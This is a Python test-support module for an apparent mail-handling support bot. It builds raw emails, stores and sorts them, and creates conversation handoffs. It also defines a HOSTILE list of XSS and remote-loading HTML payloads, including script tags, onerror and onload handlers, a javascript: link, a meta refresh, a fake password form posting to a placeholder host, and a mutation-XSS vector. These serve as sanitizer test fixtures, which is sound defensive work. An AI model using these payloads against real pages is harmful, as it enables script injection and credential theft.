"""A desk with mail: mails as the store keeps them, and the little that the desk asks of the rest."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from typing import Any

from bot.channels.mail.show import as_shown, html_of
from bot.messages import Incoming
from bot.state import Conversation
from bot.store import Store, attachments, conversations, handoffs, mails, messages
from bot.store.accounts import Account

#: Each would do something in a page that trusts it: run a script, fetch a picture, leave for elsewhere.
HOSTILE = (
    "<script>document.title = 'HACKED'; fetch('{away}/script')</script>",
    "<img src='{away}/pixel.gif' onerror=\"document.title = 'HACKED'\">",
    "<svg onload=\"document.title = 'HACKED'\"><image href='{away}/svg.png'/></svg>",
    "<a href=\"javascript:document.title='HACKED'\">click</a>",
    "<style>@import '{away}/import.css'; body {{ background: url('{away}/style.png') }}</style>",
    "<div style=\"background: url('{away}/inline.png')\">styled</div>",
    "<link rel=stylesheet href='{away}/link.css'><meta http-equiv=refresh content='0;url={away}/refresh'>",
    "<base href='{away}/'><form action='{away}/form'><input name=password><button>Sign in</button></form>",
    "<iframe src='{away}/frame' srcdoc=\"<script>parent.document.title = 'HACKED'</script>\"></iframe>",
    "<object data='{away}/object'></object><embed src='{away}/embed'><video src='{away}/video' autoplay></video>",
    "</body></html><script>parent.document.title = 'HACKED'</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='HACKED'\"></style></mglyph></table>",
)


@dataclass
class Office:
    """What stands behind the desk: the real reading of mails, and a record of what was asked."""

    until: datetime | None = None
    brought: list[tuple[int, str]] = field(default_factory=list)

    def show(self, raw: bytes) -> str:
        return as_shown(html_of(raw))

    def bring(self, mail_id: int, account: Account) -> None:
        self.brought.append((mail_id, account.name))

    def paused_until(self) -> datetime | None:
        return self.until


def written(
    subject: str = "Imprimante", text: str = "Bonjour", html: str = "", sender: str = "Luc <luc@acme.example>"
) -> bytes:
    """A raw mail."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, "support@hotliner.example", subject
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    return mail.as_bytes()


def keep(store: Store, raw: bytes, state: str = "sorted", **values: Any) -> int:
    """The id of this mail, once it is kept and sorted."""
    digest = hashlib.sha256(raw).hexdigest()
    with store.begin() as tx:
        mails.keep(tx, raw, digest, datetime.now(UTC))
        found = next(each for each in mails.lease_waiting(tx, datetime.now(UTC), timedelta(minutes=1), 1))
        mails.sorted_as(tx, found.id, state, **values)
    return found.id


def hand_over(store: Store, *lines: Mapping[str, Any]) -> int:
    """The handoff of a conversation by mail; each line: its `text`, its `files`, and what its mail's meta holds."""
    now = datetime.now(UTC)
    with store.begin() as tx:
        conversation = 0
        for number, line in enumerate(lines, 1):
            files = [
                {"name": name, "mimetype": "image/png", "size": size, "path": path}
                for name, size, path in line.get("files", ())
            ]
            meta = {key: value for key, value in line.items() if key not in ("text", "files", "reason")}
            meta |= {"attachments_json": json.dumps(files)} if files else {}
            incoming = Incoming(
                "mail", f"mail-{number}", "t1", "luc@acme.example", line["text"], sender_name="Luc", meta=meta
            )
            if not conversation:
                state = {**Conversation("fr").to_json(), "stage": "with_hotliner"}
                conversation = conversations.open_conversation(tx, incoming, state, "fr", now)
            message = messages.add_incoming(tx, conversation, incoming, now)
            messages.mark(tx, message, "handled", now, line.get("reason", ""))
            attachments.add(tx, message, meta.get("attachments_json", ""))
        packet = {"requester": "Luc", "channel": "mail", "lang": "fr", "problem": lines[0]["text"], "reason": "asked"}
        return handoffs.add(tx, conversation, "printing", "asked", packet, now - timedelta(minutes=3))
